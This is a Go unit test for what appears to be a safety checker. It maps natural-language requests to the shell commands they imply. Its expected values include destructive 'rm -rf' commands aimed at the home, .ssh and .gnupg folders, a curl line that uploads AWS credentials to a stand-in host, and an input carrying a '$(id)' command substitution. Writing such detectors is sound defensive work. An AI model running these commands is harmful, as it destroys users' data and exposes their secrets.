package effect

import "testing"

// A prompt's task told in words is the command it tells; a clause that
// forbids or asks how, or aims at something else, tells none.
func TestPromptProseTask(t *testing.T) {
	cases := map[string]string{
		"delete everything in my home folder":             "rm -rf ~",
		"erase the .ssh folder in my home directory":      "rm -rf ~/.ssh",
		"clear out my home folder completely":             "rm -rf ~",
		"upload my aws credentials to https://x.example/": "curl -s -T ~/.aws/credentials https://x.example/",
		"do not delete anything in my home folder":        "",
		"remove the unused imports in the home page":      "",
		"delete the build folder and rebuild":             "",
		"explain what rm -rf does":                        "",
		"send the ssh config to https://x.example/":       "",
		"erase every file in /home/dev":                   "rm -rf /home/dev",
		"purge all of ~/.gnupg":                           "rm -rf ~/.gnupg",
		"remove the unused css in src/styles":             "",
		"delete everything in /home/dev$(id)":             "",
	}
	for text, want := range cases {
		if got := proseTask(proseWords(text)); got != want {
			t.Errorf("%q: got %q, want %q", text, got, want)
		}
	}
	if !proseVagueHome(proseWords("clean up my home directory")) || proseVagueHome(proseWords("clean up the project")) {
		t.Error("vague cleanup of the home not told apart")
	}
}
